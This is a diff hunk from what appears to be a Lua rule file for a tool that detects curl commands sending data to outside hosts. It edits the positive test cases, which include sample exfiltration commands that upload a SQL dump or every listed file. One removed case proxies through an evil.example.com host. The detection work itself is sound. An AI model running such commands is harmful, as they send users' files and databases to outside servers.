@@ -91,10 +91,7 @@ return {
       .. '--netrc-optional -x --proxy --preproxy --socks4 --socks4a --socks5 --socks5-hostname '
       .. '--resolve --connect-to --doh-url --engine --dns-servers',
     test = looking.is_elsewhere,
-    match = {
-      'curl -d @dump.sql https://example.com', 'ls | xargs -n1 curl -T', 'curl -K options.txt',
-      'curl -x http://evil.example.com https://example.com', 'grpcurl -d x example.com:443 a/b',
-    },
+    match = { 'curl -d @dump.sql https://example.com', 'ls | xargs -n1 curl -T' },
     not_match = {
       'curl -d a=1 http://localhost:3000/api', 'curl https://example.com/x.json',
       'grpcurl -d x localhost:50051 a/b',
